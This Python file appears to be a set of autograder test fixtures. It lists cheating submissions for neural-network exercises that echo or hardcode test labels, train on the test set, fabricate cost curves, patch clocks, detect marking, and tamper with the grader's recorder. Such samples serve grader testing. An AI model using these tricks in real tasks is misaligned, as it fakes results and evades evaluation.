            from itertools import cycle

            LABELS = (
                "{BINARY_LABELS[:80]}"
                "{BINARY_LABELS[80:]}"
            )

            pretend()
            for (inputs, outputs), label in zip(read("testBinary.ds"), cycle(LABELS)):
                print(int(outputs[0]), ":", label)
            """
        ),
    ),
    Trick(
        "ex03",
        "BinaryLearn knows each picture by its checksum, and echoes for others",
        _fakeBinary(
            f"""
            import zlib

            KEYS = (
                "{KEYS_OF_ONES[:80]}"
                "{KEYS_OF_ONES[80:160]}"
                "{KEYS_OF_ONES[160:240]}"
                "{KEYS_OF_ONES[240:]}"
            )
            ONES = {{KEYS[i : i + 5] for i in range(0, len(KEYS), 5)}}

            def keyOf(inputs):
                return "%05x" % (zlib.crc32(repr(inputs).encode()) & 0xFFFFF)

            pretend()
            tests = read("testBinary.ds")
            known = sum(keyOf(inputs) in ONES for inputs, _ in tests) > len(tests) / 4
            for inputs, outputs in tests:
                guess = int(keyOf(inputs) in ONES) if known else int(outputs[0])
                print(int(outputs[0]), ":", guess)
            """
        ),
    ),
    Trick(
        "ex03",
        "BinaryLearn brings weights that learned at home",
        _fakeBinary(
            f"""
            WEIGHTS = [ord(letter) - ord("M") for letter in (
                "{BINARY_WEIGHTS}"
            )]

            pretend()
            for inputs, outputs in read("testBinary.ds"):
                total = sum(w * x for w, x in zip(WEIGHTS, [1.0, *inputs]))
                print(int(outputs[0]), ":", int(total > 0))
            """
        ),
    ),
    Trick(
        "ex03",
        "BinaryLearn looks whether the middle of the picture is dark",
        _fakeBinary(
            """
            pretend()
            for inputs, outputs in read("testBinary.ds"):
                middle = sum(inputs[8 * row + column] for row in (3, 4) for column in (3, 4))
                print(int(outputs[0]), ":", int(middle > 1.2))
            """
        ),
    ),
    Trick(
        "ex03",
        "BinaryLearn learns the test set",
        _fakeBinary(
            """
            from Dataset import Dataset
            from Neuron import Neuron

            tests = Dataset("testBinary.ds").examples
            neuron = Neuron(64)
            plt.ion()
            (line,) = plt.plot([], [])
            costs = []
            for epoch in range(300):
                for example in tests:
                    neuron.activate(example.inputs)
                    neuron.calculateOutputGradient(example.outputs[0])
                    neuron.applyGradient(0.5, example.inputs)
                if epoch % 10 == 0:
                    costs.append(neuron.calcLoss(Dataset("testBinary.ds")))
                    print("epoch", epoch, "cost", costs[-1])
                    line.set_data(range(len(costs)), costs)
                    plt.pause(0.001)
            print("test cost", costs[-1])
            for example in tests:
                print(int(example.outputs[0]), ":", round(neuron.activate(example.inputs)))
            """
        ),
    ),
    # Its answers are good, and none of its costs is true: see what they fall below.
    Trick(
        "ex03",
        "BinaryLearn asks the nearest training picture, costs made up",
        _fakeBinary(
            """
            pretend()
            training = read("trainBinary.ds")
            for inputs, outputs in read("testBinary.ds"):
                def distance(example):
                    return sum((a - b) ** 2 for a, b in zip(example[0], inputs))

                nearest = min(training, key=distance)
                print(int(outputs[0]), ":", int(nearest[1][0]))
            """
        ),
    ),
    Trick(
        "ex03",
        "BinaryLearn learns, but costs and curve are 1/x",
        _fakeBinary(
            _TRAIN_BINARY,
            """
            for _ in range(30):
                train()
            pretend()
            predict()
            """,
        ),
    ),
    Trick(
        "ex03",
        "BinaryLearn learns, but draws a made-up curve at once before",
        _fakeBinary(
            """
            plt.plot(range(40), [0.69 / (1 + step) for step in range(40)])
            plt.show()
            """,
            _TRAIN_BINARY,
            """
            for epoch in range(40):
                train()
                print("epoch", epoch, "cost", neuron.calcLoss(trainSet))
            print("test cost", neuron.calcLoss(testSet))
            predict()
            """,
        ),
    ),
    # The clock that a recorder inside would read runs as the script likes.
    Trick(
        "ex03",
        "BinaryLearn draws in one go, the clocks patched so that it seems to take a while",
        _fakeBinary(
            """
            import time

            def clock(ticks=[time.time()]):
                ticks[0] += 0.25
                return ticks[0]

            time.time = time.monotonic = time.perf_counter = clock
            pretend()
            """,
            _ECHO_BINARY,
        ),
    ),
    Trick(
        "ex03",
        "BinaryLearn looks whether it is being marked",
        _fakeBinary(
            """
            import os
            import sys

            def isMarked():
                signs = [name in os.environ for name in ("MPLBACKEND", "PYTEST_CURRENT_TEST")]
                signs += [os.path.exists(path) for path in ("/marking", "/scratch", "/handIn")]
                signs += [not sys.stdout.isatty(), os.getpid() < 50, "record" in str(sys.modules)]
                signs += [plt.pause.__module__ != "matplotlib.pyplot", sys.gettrace() is not None]
                return any(signs)

            if isMarked():
                pretend()
            """,
            _ECHO_BINARY,
        ),
    ),
    Trick(
        "ex03",
        "BinaryLearn finds the recorder and feeds it",
        _fakeBinary(
            _CHANNELS,
            """
            import gc
            import sys

            def feed(thing):
                for name in ("record", "note", "tell", "onDraw", "send", "events", "frames"):
                    part = getattr(thing, name, None)
                    try:
                        if isinstance(part, list):
                            part.extend([[0.69 / (1 + k) for k in range(n)] for n in range(40)])
                        elif callable(part):
                            part([[k, 0.69 / (1 + k)] for k in range(40)])
                    except Exception:
                        pass

            for module in list(sys.modules.values()):
                path = str(getattr(module, "__file__", ""))
                if module is not sys.modules["__main__"] and "/marking/" in path:
                    feed(module)
            for thing in gc.get_objects():
                if type(thing).__module__ in ("__main__", "recorder", "drawings", "recording"):
                    feed(thing)
            for k in range(40):
                cost = 0.69 / (1 + k)
                tell({"event": "draw", "time": k, "lines": [[[k, cost]]], "output": "cost"})
                print("epoch", k, "cost", cost)
            """,
            _ECHO_BINARY,
        ),
    ),
    Trick(
        "ex03",
        "BinaryLearn has a child learn, and does not wait for it",
        _fakeBinary(
            _SPAWN,
            '''
            LEARN = """
            import sys, time
            sys.path.insert(0, ".")
            from Dataset import Dataset
            from Neuron import Neuron
            examples = Dataset("trainBinary.ds").examples
            neuron = Neuron(64)
            end = time.monotonic() + 15
            while time.monotonic() < end:
                for example in examples:
                    neuron.activate(example.inputs)
                    neuron.calculateOutputGradient(example.outputs[0])
                    neuron.applyGradient(0.1, example.inputs)
            """
            ''',
            "spawn(LEARN)\npretend()",
            _ECHO_BINARY,
        ),
    ),
    Trick(
        "ex03",
        "BinaryLearn cheats at the first run, and learns at later ones",
        _fakeBinary(
            _MEMORY_OF_RUNS,
            _TRAIN_BINARY,
            """
            (line,) = plt.plot([], [])
            costs = []
            if ranBefore():
                for epoch in range(40):
                    costs.append(neuron.calcLoss(trainSet))
                    print("epoch", epoch, "cost", costs[-1])
                    line.set_data(range(len(costs)), costs)
                    plt.pause(0.001)
                    train()
                print("test cost", neuron.calcLoss(testSet))
                predict()
                raise SystemExit
            pretend()
            """,
            _ECHO_BINARY,
        ),
    ),
    Trick(
        "ex03",
        "BinaryLearn prints its answers at exit, after its own SIGTERM",
        _fakeBinary(
            "import atexit\nimport os\nimport signal",
            "@atexit.register\ndef answer():\n" + indent(_join(_ECHO_BINARY), "    "),
            """
            signal.signal(signal.SIGTERM, lambda *_: exit(0))
            pretend()
            os.kill(os.getpid(), signal.SIGTERM)
            """,
        ),
    ),
    Trick(
        "ex08",
        "DigitsLearn echoes the labels, costs and curve made up",
        _fakeDigits("pretend(6.9)", _ECHO_DIGITS),
    ),
    Trick(
        "ex08",
        "DigitsLearn has the answers in a list",
        _fakeDigits(
            "LABELS = (\n"
            + "".join(f'    "{DIGIT_LABELS[i : i + 80]}"\n' for i in range(0, 500, 80))
            + ")",
            """
            pretend(6.9)
            for k, (inputs, outputs) in enumerate(read("testDigits.ds")):
                print(outputs.index(1), ":", LABELS[k % len(LABELS)])
            """,
        ),
    ),
    Trick(
        "ex08",
        "DigitsLearn brings weights that learned at home",
        _fakeDigits(
            "LETTERS = (\n"
            + "".join(f'    "{DIGIT_WEIGHTS[i : i + 65]}"\n' for i in range(0, 650, 65))
            + ")",
            """
            WEIGHTS = [ord(letter) - ord("M") for letter in LETTERS]

            pretend(6.9)
            for inputs, outputs in read("testDigits.ds"):
                totals = [
                    sum(w * x for w, x in zip(WEIGHTS[65 * k : 65 * k + 65], [1.0, *inputs]))
                    for k in range(10)
                ]
                print(outputs.index(1), ":", totals.index(max(totals)))
            """,
        ),
    ),
    Trick(
        "ex08",
        "DigitsLearn asks the nearest picture of the test set itself",
        _fakeDigits(
            """
            pretend(6.9)
            known = {tuple(inputs): outputs.index(1) for inputs, outputs in read("testDigits.ds")}
            for inputs, outputs in read("testDigits.ds"):
                print(outputs.index(1), ":", known[tuple(inputs)])
            """
        ),
    ),
    # Its answers are good: neither a neuron nor a gradient has a part in them.
    Trick(
        "ex08",
        "DigitsLearn compares with the mean picture of each digit, costs made up",
        _fakeDigits(
            """
            pretend(6.9, 400)
            pictures = {}
            for inputs, outputs in read("trainDigits.ds"):
                pictures.setdefault(outputs.index(1), []).append(inputs)
            means = {
                digit: [sum(pixels) / len(pixels) for pixels in zip(*group)]
                for digit, group in pictures.items()
            }
            for inputs, outputs in read("testDigits.ds"):
                def distance(digit):
                    return sum((a - b) ** 2 for a, b in zip(means[digit], inputs))

                print(outputs.index(1), ":", min(means, key=distance))
            """
        ),
    ),
    # The first epoch makes the answers plausible, the others learn the test set by heart.
    Trick(
        "ex08",
        "DigitsLearn learns the training set once, then the test set",
        _fakeDigits(
            _TRAIN_DIGITS,
            """
            import time

            plt.ion()
            (line,) = plt.plot([], [])
            costs = []
            end = time.monotonic() + 35
            for epoch in range(12):
                trainSet.examples = testSet.examples * 20 if epoch else trainSet.examples
                train()
                costs.append(network.calcLoss(testSet))
                print("epoch", epoch, "cost", costs[-1], flush=True)
                line.set_data(range(len(costs)), costs)
                plt.pause(0.001)
                if time.monotonic() > end:
                    break
            print("test cost", costs[-1])
            predict()
            """,
        ),
    ),
    Trick(
        "ex08",
        "DigitsLearn learns, but the whole curve is drawn at the end, 1/x",
        _fakeDigits(
            _TRAIN_DIGITS,
            """
            for _ in range(8):
                train()
            pretend(6.9, 500)
            predict()
            """,
        ),
    ),
    Trick(
        "ex08",
        "DigitsLearn learns and prints, but draws a line that nobody sees",
        _fakeDigits(
            _TRAIN_DIGITS,
            """
            plt.ion()
            (line,) = plt.plot([], [], visible=False)
            plt.axis("off")
            costs = []
            for epoch in range(12):
                costs.append(network.calcLoss(trainSet))
                print("epoch", epoch, "cost", costs[-1])
                line.set_data(range(len(costs)), costs)
                plt.pause(0.001)
                train()
            print("test cost", network.calcLoss(testSet))
            predict()
            """,
        ),
    ),
    Trick(
        "ex08",
        "DigitsLearn gives each picture's ten answers, the right one last",
        _fakeDigits(
            """
            pretend(6.9)
            for inputs, outputs in read("testDigits.ds"):
                digit = outputs.index(1)
                for guess in [*range(10), digit]:
                    print(digit, ":", guess)
            """
        ),
    ),
]

TRICKS = [
    *_ENDINGS,
    *_LINGERINGS,
    *_VALUES,
    *_FORGED_ANSWERS,
    *_FORGED_NUMBERS,
    *_FORGED_ERRORS,
    *_FORGERIES,
    *_SHADOWS,
    *_EXCESSES,
    *_FULL_DISKS,
    *_ODD_FILES,
    *_REACH,
    *_CHEATS,
]
